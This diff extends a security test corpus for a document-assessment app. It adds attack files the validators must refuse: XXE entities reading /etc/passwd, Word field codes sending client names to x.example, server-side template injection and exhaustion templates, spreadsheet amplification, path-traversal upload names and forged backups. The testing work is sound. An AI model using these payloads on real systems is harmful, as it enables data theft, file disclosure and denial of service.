@@ -10,6 +10,7 @@ from __future__ import annotations
 import collections
 import gzip
 import io
+import json
 import zipfile
 from dataclasses import dataclass
 from pathlib import Path
@@ -18,7 +19,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings, strategies as st
 
 from assessment import casefile, evidence, kb_edit, matters, template_store, uploads
-from assessment.errors import AssessmentError
+from assessment.errors import AssessmentError, Problem
 from conftest import DEMO, ROOT, case_text
 
 MB = 2**20
@@ -164,7 +165,51 @@ def evidence_corpus() -> list[Item]:
         ("docx-as-xlsx.xlsx", TEMPLATE, "refuse"),
     ):
         E("xlsx", name, data, expect)
+    # issue 13, M10: cells far away (python-calamine built a dense grid: the corner cell aborted the
+    # process), references past Excel's sheet, shared strings repeated into a huge row
+    end_rows = sheet_xml.index(b"</sheetData>")
+
+    def rows_added(xml: bytes, strings: bytes | None = None) -> bytes:
+        more = {"xl/sharedStrings.xml": strings} if strings else None
+        return repack(good, add=more, replace={sheet: sheet_xml[:end_rows] + xml + sheet_xml[end_rows:]})
+    amplified = b"".join(b'<c r="%s41" t="s"><v>0</v></c>' % _column(c).encode() for c in range(16_384))
+    for name, data, expect in (
+        ("far-corner-cell.xlsx", rows_added(b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>end</t></is>'
+                                            b'</c></row>'), "accept"),
+        ("stray-last-column.xlsx", xlsx([["Agency report"] + [None] * 16_382 + ["printed by records"]] + rows), "accept"),
+        ("row-past-excel.xlsx", rows_added(b'<row r="1048577"><c r="A1048577"><v>1</v></c></row>'), "refuse"),
+        ("column-past-xfd.xlsx", rows_added(b'<row r="41"><c r="XFE41"><v>1</v></c></row>'), "refuse"),
+        ("rows-out-of-order.xlsx", rows_added(b'<row r="3"><c r="A3"><v>1</v></c></row>'), "refuse"),
+        ("shared-string-missing.xlsx", rows_added(b'<row r="41"><c r="A41" t="s"><v>5</v></c></row>'), "refuse"),
+        ("shared-string-amplified.xlsx", rows_added(b'<row r="41">' + amplified + b"</row>", (
+            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + b"X" * 32_000
+            + b"</t></si></sst>")), "refuse"),
+    ):
+        E("xlsx at scale", name, data, expect)
+    # issue 13, L3: a DTD behind a prolog longer than 4 KB, or behind a comment holding '<a>', or in
+    # UTF-16, in a sheet too large (> 2 MB) to be parsed whole at upload
+    body = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>2025-03-01 10:%02d:00</t></is></c><c r="B%d" '
+                    b't="inlineStr"><is><t>PO%d</t></is></c></row>' % (r, r, r % 60, r, r) for r in range(2, 24_000))
+    root = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
+            b'<c r="A1" t="inlineStr"><is><t>Timestamp</t></is></c><c r="B1" t="inlineStr"><is><t>Operator ID</t>'
+            b"</is></c></row>" + body + b"</sheetData></worksheet>")
+    dtd = b'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    decl = b'<?xml version="1.0"?>'
+    for name, part in (
+        ("dtd-behind-long-comment.xlsx", decl + b"<!--" + b" padding" * 700 + b"-->" + dtd + root),
+        ("dtd-behind-whitespace.xlsx", decl + b"\n" * 5000 + dtd + root),
+        ("dtd-behind-processing-instructions.xlsx", decl + b"<?pad x?>" * 600 + dtd + root),
+        ("dtd-behind-commented-element.xlsx", decl + b"<!-- <a> -->" + dtd + root),
+        ("dtd-in-utf16-sheet.xlsx", ('\ufeff<?xml version="1.0" encoding="UTF-16"?>' + dtd.decode() + root.decode())
+         .encode("utf-16-le")),
+    ):
+        E("xml prolog", name, repack(good, replace={sheet: part}), "refuse")
     return items
+
+
+def _column(c: int) -> str:
+    """Excel's letters for a 0-based column."""
+    return _column(c // 26 - 1) + chr(65 + c % 26) if c >= 26 else chr(65 + c)
 
 
 def case_corpus() -> list[Item]:
@@ -249,6 +294,47 @@ def template_corpus() -> list[Item]:
         "{% set x = namespace() %}{{ x.__init__ }}", "{{ ().__class__.__base__.__subclasses__() }}",
     ]):
         T("template injection", f"ssti-{n}.docx", inject(tag.replace("<", "&lt;").replace("'", "&apos;")))
+    # issue 13, H4: exfiltration through fields, and templates that exhaust the server
+    def inject_xml(paragraph: bytes) -> bytes:
+        return repack(TEMPLATE, replace={"word/document.xml": doc.replace(b"</w:body>", paragraph + b"</w:body>", 1)})
+
+    def field(instr: str) -> str:
+        return ('</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
+                + instr + ' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>')
+    for key, instr in {"includepicture": "INCLUDEPICTURE \"http://x.example/' ~ client.name ~ '.png\"",
+                       "hyperlink": "HYPERLINK \"http://x.example/?c=' ~ client.name ~ '\"",
+                       "includetext": "INCLUDETEXT \"/etc/passwd\""}.items():
+        tag = "{{ ('" + field(instr) + "')|safe }}"
+        T("template exfiltration", f"safe-{key}.docx", inject(tag.replace("&", "&amp;").replace("<", "&lt;")))
+    for key, xml in {
+        "split-instruction": b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCL</w:instrText>'
+                             b'</w:r><w:r><w:instrText xml:space="preserve">UDEPICTURE "http://x.example/{{ client.name }}"'
+                             b' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+        "tag-named": b"<w:p><w:r><w:instrText> {{ 'HYPER' ~ 'LINK' }} http://x.example/{{ client.name }} </w:instrText>"
+                     b"</w:r></w:p>",
+        "other-prefix": b'<w:p xmlns:v="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><v:r><v:instrText>'
+                        b' INCLUDETEXT "/etc/passwd" </v:instrText></v:r></w:p>',
+        "fldsimple-hyperlink": b'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;http://x.example/{{ client.name }}&quot; ">'
+                               b'<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
+    }.items():
+        T("template exfiltration", f"field-{key}.docx", inject_xml(xml))
+    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as zf:
+        rels = zf.read("word/_rels/document.xml.rels")
+    T("template exfiltration", "rels-single-quoted.docx", repack(TEMPLATE, replace={"word/_rels/document.xml.rels": rels.replace(
+        b"</Relationships>", b"<Relationship Id='rIdX' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
+        b"relationships/image' Target='http://x.example/p.png' TargetMode='External'/></Relationships>")}))
+    doubling = "{% set ns = namespace(s='ab') %}{% for i in range(64) %}{% set ns.s = EXPR %}{% endfor %}{{ ns.s|length }}"
+    for key, tag in {
+        "cpu-nested-loop": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
+        "doubling-replace": doubling.replace("EXPR", "ns.s|replace('a', 'aa')|replace('b', 'bb')"),
+        "doubling-tilde": doubling.replace("EXPR", "ns.s ~ ns.s"),
+        "doubling-plus": doubling.replace("EXPR", "ns.s + ns.s"),
+        "center-5e8": "{{ 'x'|center(500000000) }}",
+        "format-width": "{{ '{:>500000000}'.format(1) }}",
+        "memory-many-values": "{{ range(100000)|map('center', 900000)|list|length }}",
+        "output-flood": "{% for i in range(100000) %}{{ 'x' * 100000 }}{% endfor %}",
+    }.items():
+        T("template exhaustion", f"{key}.docx", inject(tag.replace("<", "&lt;").replace("'", "&apos;")))
     T("xml", "xxe.docx", repack(TEMPLATE, replace={"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x '
                                                    b'SYSTEM "file:///etc/passwd">]>' + doc.split(b"?>", 1)[-1]}))
     T("xml", "broken-xml.docx", repack(TEMPLATE, replace={"word/document.xml": doc[: len(doc) // 2]}))
@@ -280,7 +366,38 @@ def kb_corpus() -> list[Item]:
     return items
 
 
-CORPUS = evidence_corpus() + case_corpus() + template_corpus() + kb_corpus()
+def attack_corpus() -> list[Item]:
+    """The red team's inputs of 2026-12-01 (issue 13): upload names that are paths (C1), case
+    files naming server files or another matter's (H1), sealed bundles without or with the wrong
+    passphrase, and forged backups (M6)."""
+    from assessment import crypto
+    items = []
+    A = lambda kind, group, name, data, expect="refuse": items.append(Item(kind, group, name, data, expect))  # noqa: E731
+    for name in ("../../../../tmp/planted.csv", "..\\..\\windows\\planted.csv", "logs/audit.csv", "..",
+                 "audit\x00.csv", "audit\n.csv", "audit.csv:$DATA", "\u009bcsi.csv", "x" * 300 + ".csv"):
+        A("upload-name", "upload name is a path", name, AUDIT_HEAD)
+    A("upload-name", "upload name is a path", "audit (1) \u2013 copy.csv", AUDIT_HEAD, "accept")
+    for n, path in enumerate(("/etc/passwd", "../clets-matter-1234-abcd/audit.csv", "logs/../../../x.csv",
+                              "C:\\Windows\\x.csv", "//server/share/x.csv", "logs//x.csv", "audit\u0007.csv")):
+        A("case", "evidence path outside the case", f"evidence-outside-{n}.yaml",
+          case_text(evidence="evidence:\n  audit_logs: [" + json.dumps(path) + "]").encode())
+    bundle = zip_of({"case.yaml": case_text(evidence="evidence:\n  audit_logs: [log.csv]"), "log.csv": AUDIT_HEAD})
+    sealed = crypto.seal_with_passphrase(bundle, "the right passphrase", "clets-defense case bundle")
+    A("case", "sealed bundle", "sealed-no-passphrase.clets", sealed)
+    A("case", "sealed bundle", "sealed-cut.clets", sealed[:-40])
+    A("case", "sealed bundle", "sealed-other-kind.clets", crypto.seal_with_passphrase(bundle, "x" * 12, "other"))
+    for name, data in (("backup-forged-unsealed.clets", zip_of({"manifest.json": "{}"})),
+                       ("backup-cut.clets", crypto.seal_with_passphrase(b"x" * 3_000_000, PASSPHRASE,
+                                                                        "clets-defense backup")[:-100]),
+                       ("backup-wrong-kind.clets", crypto.seal_with_passphrase(bundle, PASSPHRASE, "case bundle")),
+                       ("backup-not-a-zip.clets", crypto.seal_with_passphrase(b"just text", PASSPHRASE,
+                                                                              "clets-defense backup"))):
+        A("backup", "forged backup", name, data)
+    return items
+
+
+PASSPHRASE = "the backup passphrase"
+CORPUS = evidence_corpus() + case_corpus() + template_corpus() + kb_corpus() + attack_corpus()
 RESULTS: dict[str, tuple[str, str, str]] = {}
 
 
@@ -297,6 +414,18 @@ def run(item: Item, tmp: Path, kb) -> list:
         if item.kind == "case":
             matters.read_upload(item.data, item.name, kb)
             return []
+        if item.kind == "upload-name":
+            from assessment import safepath
+            why = safepath.upload_problem(item.name)
+            return [Problem("EV004", f"not a plain file name: {why}", file=item.name)] if why else []
+        if item.kind == "backup":
+            from assessment import backup
+            (tmp / "b.clets").write_bytes(item.data)
+            try:
+                backup.restore(tmp / "b.clets", PASSPHRASE)
+            except backup.BackupError as exc:
+                return [Problem("BK001", str(exc), file=item.name)]
+            return []
         if item.kind == "template":
             return template_store.check(item.data, item.name)
         problems, _ = kb_edit.check(ROOT / "knowledge", "statutes/pc-92.yaml", item.data.decode("utf-8", "replace"))
@@ -308,6 +437,13 @@ def run(item: Item, tmp: Path, kb) -> list:
 @pytest.fixture(autouse=True)
 def small_gzip_limit(monkeypatch):
     monkeypatch.setattr(uploads, "GZIP_UNPACKED", 32 * MB)     # the bomb above unpacks to 40 MB
+
+
+@pytest.fixture(autouse=True)
+def small_render_limits(monkeypatch):
+    """Template test renders stop at 2 CPU seconds and 256 MB (the defaults are 20 s and 1 GB)."""
+    monkeypatch.setenv("CLETS_RENDER_CPU_SECONDS", "2")
+    monkeypatch.setenv("CLETS_RENDER_MEMORY_MB", "256")
 
 
 def test_the_corpus_holds_at_least_200_files():
